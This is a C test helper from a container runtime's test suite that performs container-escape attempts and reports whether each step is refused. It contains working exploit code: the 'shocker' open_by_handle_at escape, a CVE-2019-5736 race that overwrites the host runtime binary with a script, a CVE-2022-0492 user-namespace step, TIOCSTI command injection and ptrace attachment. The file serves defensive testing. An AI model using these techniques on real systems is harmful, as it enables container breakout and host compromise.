/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* escape-helper OP ARGS...: one container-escape move, made inside a
 * container by the tests/escape scripts.  Each prints its outcome on one line:
 * "ok ..." when the move worked, "STEP errno N" when the kernel refused the
 * step STEP with errno N.  Linked -static: it runs in a busybox rootfs.
 *
 *   sys NR [ARG...]            a raw system call (numbers, strtoull base 0)
 *   mknod PATH b|c MAJ MIN     mknod(2)
 *   read PATH                  open O_RDONLY and read 512 bytes
 *   write PATH TEXT            open O_WRONLY and write TEXT and a newline
 *                              (so that an empty TEXT still reaches the
 *                              file's write handler)
 *   mount SRC DST TYPE [OPT]   mount(2), read-only when OPT is "ro", else
 *                              OPT is the data string
 *   remount DST FLAGS          MS_REMOUNT|MS_BIND with FLAGS (ro|rw)
 *   umount DST                 umount2(DST, 0)
 *   addkey                     add_key("user", ...) to the process keyring
 *   keyctl                     keyctl(KEYCTL_GET_KEYRING_ID, session, 1)
 *   shocker                    open_by_handle_at of the root inode (2) of
 *                              the filesystem that holds "/", lists it
 *   perf                       perf_event_open of a user-space clock counter
 *   bpf                        BPF_PROG_LOAD of a socket filter
 *   listener                   seccomp(SET_MODE_FILTER, NEW_LISTENER)
 *   tiocsti FD TEXT            ioctl(FD, TIOCSTI) for each byte of TEXT,
 *                              then a newline (a command line injected)
 *   ptrace PID                 PTRACE_ATTACH, wait, PTRACE_DETACH
 *   pidfd PID                  pidfd_open(PID)
 *   fds PID                    every fd, cwd and root of PID: "inside",
 *                              "outside" (a directory or file this
 *                              process cannot reach from its own root) or
 *                              "anon"; then "leaks N"
 *   nest CMD                   unshare(CLONE_NEWUSER | CLONE_NEWNS |
 *                              CLONE_NEWCGROUP), map our ids to root in
 *                              the new user namespace, then sh -c CMD: the
 *                              first step of the CVE-2022-0492 exploit
 *                              (`unshare -UrmC`)
 *   race COMM SECONDS          CVE-2019-5736: for SECONDS, open
 *                              /proc/PID/exe of every process named COMM
 *                              (or any new process when COMM is "-") whose
 *                              program is not a file of the container's,
 *                              and try to reopen it for writing; prints
 *                              what each step got, "overwritten" on
 *                              success */
#include "config.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/perf_event.h>
#include <linux/seccomp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int esc_fail(const char *step)
{
	printf("%s errno %d\n", step, errno);
	return 1;
}

static long esc_num(const char *s)
{
	return (long)strtoull(s, NULL, 0);
}

static int esc_sys(int argc, char **argv)
{
	long a[6] = { 0 };
	if (argc < 1 || argc > 7)
		return 2;
	for (int i = 1; i < argc; i++)
		a[i - 1] = esc_num(argv[i]);
	long r = syscall(esc_num(argv[0]), a[0], a[1], a[2], a[3], a[4], a[5]);
	if (r == -1)
		return esc_fail("sys");
	printf("ok ret %ld\n", r);
	return 0;
}

static int esc_read(const char *path)
{
	char buf[512];
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return esc_fail("open");
	ssize_t n = read(fd, buf, sizeof(buf));
	if (n < 0)
		return esc_fail("read");
	printf("ok read %zd\n", n);
	return 0;
}

static int esc_write(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0)
		return esc_fail("open");
	char buf[4096];
	int n = snprintf(buf, sizeof(buf), "%s\n", text);
	if (n < 0 || (size_t)n >= sizeof(buf) || write(fd, buf, (size_t)n) < 0)
		return esc_fail("write");
	printf("ok\n");
	return 0;
}

static int esc_shocker(void)
{
	struct {
		struct file_handle fh;
		uint32_t ino, gen;
	} h = { .fh = { .handle_bytes = 8, .handle_type = 1 }, .ino = 2, .gen = 0 };
	int mfd = open("/", O_RDONLY | O_DIRECTORY);
	if (mfd < 0)
		return esc_fail("open");
	int fd = (int)syscall(SYS_open_by_handle_at, mfd, &h.fh, O_RDONLY | O_DIRECTORY);
	if (fd < 0)
		return esc_fail("open_by_handle_at");
	struct stat st, root;
	if (fstat(fd, &st) < 0 || stat("/", &root) < 0)
		return esc_fail("stat");
	DIR *d = fdopendir(fd);
	int n = 0;
	for (struct dirent *e; d && (e = readdir(d));)
		n++;
	printf("ok inode %lu, %d entries, %s\n", (unsigned long)st.st_ino, n,
	       st.st_ino == root.st_ino && st.st_dev == root.st_dev ? "the container's root" :
								       "outside the container's root");
	return 0;
}

static int esc_perf(void)
{
	struct perf_event_attr a = {
		.type = PERF_TYPE_SOFTWARE,
		.size = sizeof(a),
		.config = PERF_COUNT_SW_CPU_CLOCK,
		.exclude_kernel = 1,
		.exclude_hv = 1,
	};
	long fd = syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
	if (fd < 0)
		return esc_fail("perf_event_open");
	printf("ok\n");
	return 0;
}

static int esc_bpf(void)
{
	struct bpf_insn prog[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr a;
	memset(&a, 0, sizeof(a));
	a.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	a.insns = (uintptr_t)prog;
	a.insn_cnt = 2;
	a.license = (uintptr_t) "GPL";
	long fd = syscall(SYS_bpf, BPF_PROG_LOAD, &a, sizeof(a));
	if (fd < 0)
		return esc_fail("bpf");
	printf("ok\n");
	return 0;
}

static int esc_listener(void)
{
	struct sock_filter f[] = { BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW) };
	struct sock_fprog p = { .len = 1, .filter = f };
	long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &p);
	if (fd < 0)
		return esc_fail("seccomp");
	printf("ok\n");
	return 0;
}

static int esc_tiocsti(int fd, const char *text)
{
	for (const char *c = text; *c; c++)
		if (ioctl(fd, TIOCSTI, c) < 0)
			return esc_fail("ioctl");
	if (ioctl(fd, TIOCSTI, "\n") < 0)
		return esc_fail("ioctl");
	printf("ok\n");
	return 0;
}

static int esc_ptrace(pid_t pid)
{
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
		return esc_fail("ptrace");
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	printf("ok\n");
	return 0;
}

/* Walk ".." from the directory DFD (closed) to the top of what it can
 * reach; 1 when that is our own root. */
static int esc_reaches_root(int dfd)
{
	struct stat root, cur, up;
	if (stat("/", &root) < 0)
		return 0;
	for (int i = 0; i < 4096; i++) {
		if (fstat(dfd, &cur) < 0)
			break;
		if (cur.st_dev == root.st_dev && cur.st_ino == root.st_ino) {
			close(dfd);
			return 1;
		}
		int up_fd = openat(dfd, "..", O_PATH | O_DIRECTORY);
		if (up_fd < 0 || fstat(up_fd, &up) < 0)
			break;
		close(dfd);
		dfd = up_fd;
		if (up.st_dev == cur.st_dev && up.st_ino == cur.st_ino)
			break;
	}
	close(dfd);
	return 0;
}

/* "inside", "outside" or "anon" for the object behind LINK (/proc/PID/...). */
static const char *esc_where(const char *link, char *target, size_t len)
{
	ssize_t n = readlink(link, target, len - 1);
	target[n < 0 ? 0 : n] = '\0';
	int fd = open(link, O_PATH);
	if (fd < 0)
		return target[0] == '/' ? "unopenable" : "anon";
	struct stat st, by_path;
	if (fstat(fd, &st) < 0) {
		close(fd);
		return "unopenable";
	}
	if (S_ISDIR(st.st_mode))
		return esc_reaches_root(fd) ? "inside" : "outside";
	close(fd);
	if (target[0] != '/')
		return "anon";
	/* A file: inside when its own path, from our root, names it. */
	if (stat(target, &by_path) == 0 && by_path.st_dev == st.st_dev && by_path.st_ino == st.st_ino)
		return "inside";
	/* Deleted files and memfds are no way out. */
	if (strstr(target, " (deleted)") || st.st_nlink == 0)
		return "anon";
	return "outside";
}

static int esc_fds(const char *pid)
{
	char dir[300], link[600], target[4096];
	int leaks = 0;
	snprintf(dir, sizeof(dir), "/proc/%s/fd", pid);
	DIR *d = opendir(dir);
	if (!d)
		return esc_fail("opendir");
	int own = dirfd(d);
	for (struct dirent *e; (e = readdir(d));) {
		if (e->d_name[0] == '.')
			continue;
		if (strcmp(pid, "self") == 0 && atoi(e->d_name) == own)
			continue;
		snprintf(link, sizeof(link), "%s/%s", dir, e->d_name);
		const char *w = esc_where(link, target, sizeof(target));
		leaks += strcmp(w, "outside") == 0;
		printf("fd %s: %s %s\n", e->d_name, w, target);
	}
	closedir(d);
	static const char *const dirs[] = { "cwd", "root" };
	for (size_t i = 0; i < 2; i++) {
		snprintf(link, sizeof(link), "/proc/%s/%s", pid, dirs[i]);
		const char *w = esc_where(link, target, sizeof(target));
		leaks += strcmp(w, "outside") == 0;
		printf("%s: %s %s\n", dirs[i], w, target);
	}
	printf("leaks %d\n", leaks);
	return 0;
}

/* CVE-2019-5736 from inside: open /proc/PID/exe of the entering process,
 * then reopen that file for writing through /proc/self/fd. */
struct esc_race {
	long open_ok, reopen_ok, overwritten;
	long open_err[134], reopen_err[134], write_err[134];
};

static void esc_race_one(struct esc_race *r, const char *pid, double until)
{
	char p[300], target[4096];
	struct stat st;
	snprintf(p, sizeof(p), "/proc/%s/exe", pid);
	/* A program of the container's own is no way out: leave it alone. */
	ssize_t len = readlink(p, target, sizeof(target) - 1);
	if (len > 0) {
		target[len] = '\0';
		if (target[0] == '/' && stat(target, &st) == 0)
			return;
	}
	int fd = open(p, O_RDONLY);
	if (fd < 0) {
		if (errno != ENOENT && errno != ESRCH && errno < 134)
			r->open_err[errno]++;
		return;
	}
	r->open_ok++;
	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
	struct timespec ts;
	for (;;) {
		int w = open(p, O_WRONLY | O_TRUNC);
		if (w >= 0) {
			r->reopen_ok++;
			static const char payload[] = "#!/bin/sh\necho overwritten by the container\n";
			if (write(w, payload, sizeof(payload) - 1) > 0)
				r->overwritten++;
			else if (errno < 134)
				r->write_err[errno]++;
			close(w);
			break;
		}
		clock_gettime(CLOCK_MONOTONIC, &ts);
		if (errno != ETXTBSY || ts.tv_sec + ts.tv_nsec / 1e9 > until) {
			if (errno < 134)
				r->reopen_err[errno]++;
			break;
		}
	}
	close(fd);
}

static void esc_print_errs(const char *what, const long *e)
{
	for (int i = 0; i < 134; i++)
		if (e[i])
			printf("%s errno %d\n", what, i);
}

static int esc_race(const char *comm, double seconds)
{
	static struct esc_race r;
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	double start = ts.tv_sec + ts.tv_nsec / 1e9;
	char self[32], path[300], name[64];
	snprintf(self, sizeof(self), "%d", getpid());
	static unsigned char seen[1 << 22];
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &ts);
		double now = ts.tv_sec + ts.tv_nsec / 1e9;
		if (now > start + seconds)
			break;
		DIR *d = opendir("/proc");
		if (!d)
			return esc_fail("opendir");
		for (struct dirent *e; (e = readdir(d));) {
			long pid = atol(e->d_name);
			if (pid <= 1 || strcmp(e->d_name, self) == 0 || pid >= (1 << 22))
				continue;
			if (strcmp(comm, "-") == 0) {
				/* Any process we have not tried yet (the entering runtime
				 * lives for milliseconds; try it as soon as it shows). */
				if (seen[pid])
					continue;
				seen[pid] = 1;
			} else {
				snprintf(path, sizeof(path), "/proc/%ld/comm", pid);
				int cfd = open(path, O_RDONLY);
				ssize_t n = cfd < 0 ? -1 : read(cfd, name, sizeof(name) - 1);
				if (cfd >= 0)
					close(cfd);
				if (n <= 0)
					continue;
				name[n] = '\0';
				name[strcspn(name, "\n")] = '\0';
				if (strcmp(name, comm) != 0)
					continue;
			}
			esc_race_one(&r, e->d_name, start + seconds);
		}
		closedir(d);
	}
	printf("exe opened %ld, reopened for writing %ld, overwritten %ld\n", r.open_ok, r.reopen_ok, r.overwritten);
	esc_print_errs("open exe", r.open_err);
	esc_print_errs("reopen", r.reopen_err);
	esc_print_errs("write", r.write_err);
	return 0;
}

static int esc_map(const char *file, const char *text)
{
	int fd = open(file, O_WRONLY);
	if (fd < 0)
		return esc_fail("open");
	if (write(fd, text, strlen(text)) < 0)
		return esc_fail("write");
	close(fd);
	return 0;
}

static int esc_nest(const char *cmd)
{
	char map[64];
	uid_t uid = getuid();
	gid_t gid = getgid();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
		return esc_fail("unshare");
	snprintf(map, sizeof(map), "0 %u 1\n", (unsigned)uid);
	if (esc_map("/proc/self/uid_map", map) || esc_map("/proc/self/setgroups", "deny"))
		return 1;
	snprintf(map, sizeof(map), "0 %u 1\n", (unsigned)gid);
	if (esc_map("/proc/self/gid_map", map))
		return 1;
	execl("/bin/sh", "sh", "-c", cmd, (char *)NULL);
	return esc_fail("exec");
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2)
		goto usage;
	const char *op = argv[1];
	char **a = argv + 2;
	int n = argc - 2;
	if (strcmp(op, "sys") == 0)
		return esc_sys(n, a);
	if (strcmp(op, "mknod") == 0 && n == 4) {
		mode_t t = strcmp(a[1], "b") == 0 ? S_IFBLK : S_IFCHR;
		if (mknod(a[0], t | 0600, makedev(esc_num(a[2]), esc_num(a[3]))) < 0)
			return esc_fail("mknod");
		printf("ok\n");
		return 0;
	}
	if (strcmp(op, "read") == 0 && n == 1)
		return esc_read(a[0]);
	if (strcmp(op, "write") == 0 && n == 2)
		return esc_write(a[0], a[1]);
	if (strcmp(op, "mount") == 0 && (n == 3 || n == 4)) {
		int ro = n == 4 && strcmp(a[3], "ro") == 0;
		if (mount(a[0], a[1], a[2], ro ? MS_RDONLY : 0, n == 4 && !ro ? a[3] : NULL) < 0)
			return esc_fail("mount");
		printf("ok\n");
		return 0;
	}
	if (strcmp(op, "remount") == 0 && n == 2) {
		unsigned long fl = MS_REMOUNT | MS_BIND | (strcmp(a[1], "ro") == 0 ? MS_RDONLY : 0);
		if (mount(NULL, a[0], NULL, fl, NULL) < 0)
			return esc_fail("mount");
		printf("ok\n");
		return 0;
	}
	if (strcmp(op, "umount") == 0 && n == 1) {
		if (umount2(a[0], 0) < 0)
			return esc_fail("umount");
		printf("ok\n");
		return 0;
	}
	if (strcmp(op, "addkey") == 0) {
		long k = syscall(SYS_add_key, "user", "cordon-escape", "x", 1, -2 /* KEY_SPEC_PROCESS_KEYRING */);
		if (k < 0)
			return esc_fail("add_key");
		printf("ok\n");
		return 0;
	}
	if (strcmp(op, "keyctl") == 0) {
		long k = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* SESSION */, 1);
		if (k < 0)
			return esc_fail("keyctl");
		printf("ok\n");
		return 0;
	}
	if (strcmp(op, "shocker") == 0)
		return esc_shocker();
	if (strcmp(op, "perf") == 0)
		return esc_perf();
	if (strcmp(op, "bpf") == 0)
		return esc_bpf();
	if (strcmp(op, "listener") == 0)
		return esc_listener();
	if (strcmp(op, "tiocsti") == 0 && n == 2)
		return esc_tiocsti(atoi(a[0]), a[1]);
	if (strcmp(op, "ptrace") == 0 && n == 1)
		return esc_ptrace(atoi(a[0]));
	if (strcmp(op, "pidfd") == 0 && n == 1) {
		long fd = syscall(SYS_pidfd_open, atoi(a[0]), 0);
		if (fd < 0)
			return esc_fail("pidfd_open");
		printf("ok\n");
		return 0;
	}
	if (strcmp(op, "fds") == 0 && n == 1)
		return esc_fds(a[0]);
	if (strcmp(op, "nest") == 0 && n == 1)
		return esc_nest(a[0]);
	if (strcmp(op, "race") == 0 && n == 2)
		return esc_race(a[0], atof(a[1]));
usage:
	fprintf(stderr, "usage: escape-helper OP ARGS... (see the source)\n");
	return 2;
}
